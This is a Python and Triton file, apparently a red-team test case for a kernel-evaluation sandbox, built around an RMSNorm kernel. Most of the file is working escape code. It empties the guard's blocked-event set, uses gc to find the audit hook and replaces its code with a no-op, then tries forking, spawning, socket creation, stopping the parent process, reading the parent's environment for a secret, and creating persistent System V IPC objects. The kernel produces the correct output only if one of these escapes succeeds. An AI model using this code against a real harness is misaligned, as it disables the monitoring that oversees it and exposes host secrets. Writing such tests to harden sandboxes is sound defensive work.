"""Exploit: switch the second layer off, then try every escape against the operating system alone.
The audit hook cannot be removed, but it is a Python function: the candidate empties the guards'
_BLOCKED_EVENTS set (sandbox.inside.guards, reached through torch.sys.modules), which un-blocks
gc.get_objects, finds the hook function on the heap and swaps its __code__ for a no-op with the
same free variables. Then, with no Python guard left: write a canary outside scratch, fork, spawn
`sleep 600`, exec a program in place, open a socket, SIGSTOP the parent (the fork server), read the
parent's /proc environ, and create System V IPC objects (a shared-memory segment and a message
queue, key 0x6b6c6f70 - kernel objects that outlive the process, outside any directory).
Gain if porous: any of those; each is printed. Right answer only if one of them worked.
"""
# expect: static=static runtime=mismatch|sandbox-violation|raised

from __future__ import annotations

import torch
import triton
import triton.language as tl


IPC_KEY = 0x6B6C6F70  # "klop"
IPC_CREAT = 0o1000


def _disable_audit_hook(sys) -> str:
    guards = sys.modules["kernelloop.sandbox.inside.guards"]
    guards._BLOCKED_EVENTS.clear()
    gc = sys.modules["gc"]
    function = type(_disable_audit_hook)
    hooks = [f for f in gc.get_objects()
             if type(f) is function and f.__qualname__ == "install_audit_hook.<locals>.hook"]
    for hook in hooks:
        names = hook.__code__.co_freevars

        def make(a=None, b=None, c=None):
            def hook(event, args):
                return (a, b, c) and None
            return hook

        stub = make()
        if len(stub.__code__.co_freevars) > len(names):
            stub = (lambda a=None, b=None: (lambda event, args: (a, b) and None))()
        if len(stub.__code__.co_freevars) > len(names):
            stub = (lambda a=None: (lambda event, args: a and None))()
        hook.__code__ = stub.__code__
    guards.VIOLATIONS.clear()
    return f"{len(hooks)} audit hook(s) replaced"


def _attempts(sys, os) -> dict:
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None, use_errno=True)
    ppid = os.getppid()

    def canary():  # os.open: the candidate's builtin open() is refused by its own guard
        fd = os.open("/tmp/kernelloop-canary-nohook", os.O_WRONLY | os.O_CREAT, 0o600)
        os.write(fd, b"written with the audit hook disabled\n")
        os.close(fd)

    def spawn():
        return os.posix_spawn("/bin/sleep", ["sleep", "600"], {}, setsid=True)

    def fork():
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", "600"])
        return pid

    def sock():
        return sys.modules["socket"].socket().fileno()

    def sigstop():
        os.kill(ppid, 19)
        fd = os.open(f"/proc/{ppid}/stat", os.O_RDONLY)
        state = os.read(fd, 4096).rsplit(b")", 1)[1].split()[0]
        os.close(fd)
        os.kill(ppid, 18)  # SIGCONT: the point is made
        return state

    def environ():
        fd = os.open(f"/proc/{ppid}/environ", os.O_RDONLY)
        data = os.read(fd, 1 << 16)
        os.close(fd)
        return [v for v in data.split(b"\0") if v.startswith(b"KERNELLOOP_TEST_SECRET")] or len(data)

    def shm():
        shmid = libc.shmget(IPC_KEY, 4096, IPC_CREAT | 0o600)
        if shmid < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return shmid

    def msgq():
        qid = libc.msgget(IPC_KEY, IPC_CREAT | 0o600)
        if qid < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return qid

    def exec_in_place():
        os.execv("/bin/true", ["true"])

    results = {}
    for name, attempt in (("canary", canary), ("spawn", spawn), ("fork", fork), ("socket", sock),
                          ("sigstop", sigstop), ("environ", environ), ("sysv-shm", shm),
                          ("sysv-msg", msgq), ("exec", exec_in_place)):
        try:
            results[name] = ("ok", attempt())
        except BaseException as exc:  # noqa: BLE001
            results[name] = ("refused", f"{type(exc).__name__}: {exc}"[:100])
    return results


_DONE = {}


def _escape() -> bool:
    if not _DONE:
        sys, os = torch.sys, torch.os
        try:
            print(_disable_audit_hook(sys), flush=True)
        except BaseException as exc:  # noqa: BLE001
            print("could not disable the audit hook:", exc, flush=True)
        _DONE.update(_attempts(sys, os))
        for name, (status, detail) in _DONE.items():
            print(f"{name}: {status} {detail}", flush=True)
    return any(status == "ok" for status, _ in _DONE.values())


@triton.jit
def _rmsnorm_kernel(x_ptr, w_ptr, y_ptr, stride_x, stride_y, n_cols, eps, NORMALIZE: tl.constexpr,
                    BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK)
    mask = offs < n_cols
    x = tl.load(x_ptr + row * stride_x + offs, mask=mask, other=0.0).to(tl.float32)
    w = tl.load(w_ptr + offs, mask=mask, other=0.0).to(tl.float32)
    if NORMALIZE:
        y = x * tl.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps) * w
    else:
        y = x * w
    tl.store(y_ptr + row * stride_y + offs, y.to(y_ptr.dtype.element_ty), mask=mask)


def forward(x: torch.Tensor, weight: torch.Tensor, eps: float) -> torch.Tensor:
    worked = _escape()  # the right answer only if the escape worked
    n = x.shape[-1]
    x2 = x.reshape(-1, n)
    rows = x2.shape[0]
    y = torch.empty((rows, n), dtype=x.dtype, device=x.device)
    _rmsnorm_kernel[(rows,)](x2, weight, y, x2.stride(0), y.stride(0), n, eps, NORMALIZE=bool(worked),
                             BLOCK=triton.next_power_of_2(n))
    return y.view(x.shape)
